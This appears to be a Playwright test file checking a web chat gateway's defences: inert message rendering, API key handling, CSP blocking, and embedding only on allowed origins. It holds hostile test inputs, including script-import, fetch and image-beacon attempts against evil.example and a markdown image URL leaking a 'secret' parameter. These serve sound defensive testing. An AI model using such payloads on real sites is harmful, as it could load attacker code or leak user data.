"""The web chat's security: no active content in messages, API keys, and embedding only on allowed sites."""

from __future__ import annotations

from base64 import b64encode
from collections.abc import Iterator
from dataclasses import dataclass
from hashlib import sha256

import pytest
from playwright.sync_api import FrameLocator, Page, expect

from tests.browser.browsers import PageGuard, chromium_only
from tests.browser.chat_actions import last_complete_reply, send_message, text_of
from tests.browser.conftest import StartGateway
from tests.browser.replies import HOSTILE
from tests.browser.site import EmbeddingSite, GatewaySite, serve
from tests.fakes.openai_server import Say

DANGEROUS = "script, style, link, iframe, object, embed, svg, math, img, video, form, input, base, meta, [style]"
DANGEROUS_IN_TEXT = ", ".join(f".text {name.strip()}" for name in DANGEROUS.split(","))
HANDLER_ATTRIBUTES = """() => [...document.querySelectorAll('.text *')]
    .flatMap((node) => [...node.attributes].map((attribute) => attribute.name))
    .filter((name) => name.startsWith('on') || name.startsWith('src'))"""
LINK_TARGETS = "() => [...document.querySelectorAll('.text a')].map((link) => link.getAttribute('href'))"


FIRST_VIOLATION = """() => new Promise((resolve) => {{
    document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective), {{once: true}});
    try {{ {attempt} }} catch {{ }}
}})"""


def assert_inert(page: Page) -> None:
    """All text is inert. The guard checks that no script ran and nothing was fetched."""
    expect(page.locator(DANGEROUS_IN_TEXT)).to_have_count(0)
    assert page.evaluate(HANDLER_ATTRIBUTES) == []
    assert [address for address in page.evaluate(LINK_TARGETS) if not address.startswith("https://")] == []
    expect(page.get_by_role("textbox", name="Message")).to_be_visible()


def test_a_reply_is_inert_while_streaming_and_when_complete(page: Page, site: GatewaySite) -> None:
    site.fake.script(Say(HOSTILE, chunks=60))
    send_message(page, "Attack me")
    expect(text_of(last_complete_reply(page))).to_contain_text("The end.")
    assert_inert(page)
    page.reload()
    expect(text_of(last_complete_reply(page))).to_contain_text("The end.")
    assert_inert(page)


def test_a_message_is_inert_and_shown_as_it_was_written(page: Page) -> None:
    send_message(page, HOSTILE)
    last_complete_reply(page)
    assert page.locator(".said .text").text_content() == HOSTILE.strip()
    assert_inert(page)


def test_an_image_is_a_link_and_a_link_says_where_it_leads(page: Page, site: GatewaySite) -> None:
    site.fake.script("![A cat](https://evil.example/cat.png?secret=1) and [your bank](https://evil.example/)")
    send_message(page, "Show me")
    reply = text_of(last_complete_reply(page))
    expect(reply.get_by_role("link", name="Image: A cat")).to_have_attribute(
        "title", "https://evil.example/cat.png?secret=1"
    )
    expect(reply.get_by_role("link", name="your bank")).to_have_attribute("title", "https://evil.example/")


VIOLATIONS = {
    "document.body.innerHTML = '<b>x</b>'": "require-trusted-types-for",
    "trustedTypes.createPolicy('mine', {})": "trusted-types",
    "import('https://evil.example/x.js').catch(() => {})": "script-src-elem",
    "fetch('https://evil.example/').catch(() => {})": "connect-src",
    "new Image().src = 'https://evil.example/x.png'": "img-src",
    "document.body.append(Object.assign(document.createElement('iframe'), {src: '/healthz'}))": "frame-src",
    "document.body.setAttribute('style', 'color: red')": "style-src-attr",
}


@chromium_only("tell what a policy blocks")
def test_the_content_security_policy_blocks_active_content(page: Page, guard: PageGuard) -> None:
    expect(page.get_by_role("textbox", name="Message")).to_be_enabled()
    refused = {attempt: page.evaluate(FIRST_VIOLATION.format(attempt=attempt)) for attempt in VIOLATIONS}
    assert refused == VIOLATIONS
    guard.violations.clear()  # the browser logs the violations to the console


# ---------------------------------------------------------------- API key


@pytest.fixture
def locked(start: StartGateway, empty: Page) -> Page:
    """The chat of a gateway that requires a key."""
    empty.goto(start(GATEWAY_API_KEYS="key-one, key-two").url)
    return empty


def enter_key(page: Page, key: str) -> None:
    page.get_by_label("API key").fill(key)
    page.get_by_label("API key").press("Enter")


def test_a_key_is_asked_for_and_kept_in_this_tab_alone(locked: Page) -> None:
    addresses: list[str] = []
    locked.on("request", lambda request: addresses.append(request.url))
    dialog = locked.get_by_role("dialog", name="This chat requires a key")
    expect(dialog).to_contain_text("It stays in this tab until you close it")
    locked.keyboard.press("Escape")
    expect(dialog).to_be_visible()
    enter_key(locked, "wrong")
    expect(locked.get_by_role("alert")).to_have_text("This key is not valid. Check that it is complete.")
    enter_key(locked, "key-one")
    expect(dialog).to_be_hidden()
    send_message(locked, "Hello")
    expect(text_of(last_complete_reply(locked))).to_have_text("You said: Hello")
    locked.reload()
    expect(text_of(last_complete_reply(locked))).to_have_text("You said: Hello")
    assert locked.evaluate("JSON.stringify(localStorage)").count("key-one") == 0
    assert [address for address in addresses if "key-one" in address] == []
    other = locked.context.new_page()
    other.goto(locked.url)
    expect(other.get_by_role("dialog")).to_be_visible()
    other.close()


def test_another_key_cannot_see_the_thread(locked: Page) -> None:
    enter_key(locked, "key-one")
    send_message(locked, "A secret of the first key")
    last_complete_reply(locked)
    locked.get_by_role("button", name="Change key").click()
    enter_key(locked, "key-two")
    expect(locked.locator("#notice")).to_contain_text("no longer there")
    expect(locked.locator(".said")).to_have_count(0)


def test_a_key_that_is_no_longer_valid_is_asked_for_again_and_the_message_is_not_lost(locked: Page) -> None:
    locked.route("**/chat/assistants", lambda route: route.fulfill(json={"assistants": []}))  # asked for at the start
    locked.evaluate("sessionStorage.setItem('chat.key', 'old')")
    locked.reload()
    send_message(locked, "Hello")
    expect(locked.get_by_role("alert")).to_have_text("This key is no longer valid.")
    enter_key(locked, "key-two")
    expect(text_of(last_complete_reply(locked))).to_have_text("You said: Hello")


# ---------------------------------------------------------------- on another site


HOSTILE_CSS = (
    "* { color: red !important; } button, div { width: 3px !important; } div:empty { display: none !important; }"
)
HOST_PAGE = """<!doctype html><title>A shop</title>
<meta http-equiv="Content-Security-Policy" content="default-src 'none'; script-src {gateway}; frame-src {gateway};
  style-src 'sha256-{style}'">
<style>{css}</style>
<h1>A shop</h1><a href="#">A link</a>
<script src="{gateway}/embed.js" async data-title="Ask us" data-position="left" data-color="#ffd400"
  data-theme="dark"></script>"""
CONTENT_OF_FRAME = "() => document.body.lastElementChild.shadowRoot.querySelector('iframe').contentDocument"


@dataclass(frozen=True)
class ShopSite:
    """A third-party site, also reachable under another host name, which is another origin."""

    site: EmbeddingSite
    address: str

    @property
    def other_origin(self) -> str:
        return self.address.replace("127.0.0.1", "localhost")


@pytest.fixture
def shop() -> Iterator[ShopSite]:
    site = EmbeddingSite()
    with serve(site) as address:
        yield ShopSite(site, address)


@pytest.fixture
def visitor(shop: ShopSite, start: StartGateway, empty: Page) -> Page:
    """A page of a visitor of the shop, which embeds a gateway that allows it."""
    digest = b64encode(sha256(HOSTILE_CSS.encode()).digest()).decode()
    shop.site.html = HOST_PAGE.format(gateway=start(CORS_ORIGINS=shop.address).url, css=HOSTILE_CSS, style=digest)
    return empty


def chat_frame(page: Page) -> FrameLocator:
    return page.frame_locator("iframe[title='Ask us']")


def test_one_script_tag_puts_a_chat_on_a_site_that_is_allowed(shop: ShopSite, visitor: Page) -> None:
    visitor.goto(shop.address)
    launch = visitor.get_by_role("button", name="Ask us")
    expect(launch).to_have_css("width", "56px")
    expect(launch).to_have_css("background-color", "rgb(255, 212, 0)")
    expect(launch).to_have_css("color", "rgb(0, 0, 0)")
    assert visitor.frames[1:] == []
    launch.click()
    expect(visitor.get_by_role("dialog", name="Ask us")).to_be_visible()
    expect(visitor.get_by_role("button", name="Close the chat")).to_be_hidden()  # the page's own bar has one
    bar = chat_frame(visitor).locator(".top")
    expect(bar).to_have_css("background-color", "rgb(255, 212, 0)")
    expect(bar.get_by_role("heading", name="Ask us")).to_have_css("color", "rgb(0, 0, 0)")
    expect(chat_frame(visitor).locator("html")).to_have_css("color-scheme", "dark")
    chat_frame(visitor).get_by_role("textbox", name="Message").fill("Hello")
    chat_frame(visitor).get_by_role("button", name="Send").click()
    expect(chat_frame(visitor).locator(".reply .text")).to_have_text("You said: Hello")
    assert visitor.evaluate(CONTENT_OF_FRAME) is None
    assert visitor.context.cookies() == []
    visitor.reload()
    visitor.get_by_role("button", name="Ask us").click()
    expect(chat_frame(visitor).locator(".reply .text")).to_have_text("You said: Hello")


@chromium_only("tell what a policy blocks")
def test_a_site_that_is_not_allowed_gets_no_page(shop: ShopSite, visitor: Page, guard: PageGuard) -> None:
    visitor.goto(shop.other_origin)
    with visitor.expect_event("console", lambda message: "frame-ancestors" in message.text):
        visitor.get_by_role("button", name="Ask us").click()
    expect(chat_frame(visitor).get_by_role("textbox")).to_have_count(0)
    visitor.get_by_role("button", name="Close the chat").click()
    expect(visitor.get_by_role("button", name="Ask us")).to_be_focused()
    guard.violations.clear()  # the browser logs the violation to the console


@chromium_only("activate a window")
def test_the_panel_opens_and_closes_by_the_keyboard(shop: ShopSite, visitor: Page) -> None:
    visitor.goto(shop.address)
    launch = visitor.get_by_role("button", name="Ask us")
    launch.wait_for()
    for _ in range(2):
        visitor.keyboard.press("Tab")
    expect(launch).to_be_focused()
    visitor.keyboard.press("Enter")
    expect(chat_frame(visitor).get_by_role("textbox", name="Message")).to_be_focused()
    visitor.keyboard.press("Escape")
    expect(launch).to_be_focused()
    launch.click()
    chat_frame(visitor).get_by_role("button", name="Close the chat").click()
    expect(launch).to_be_focused()
    expect(launch).to_have_attribute("aria-expanded", "false")
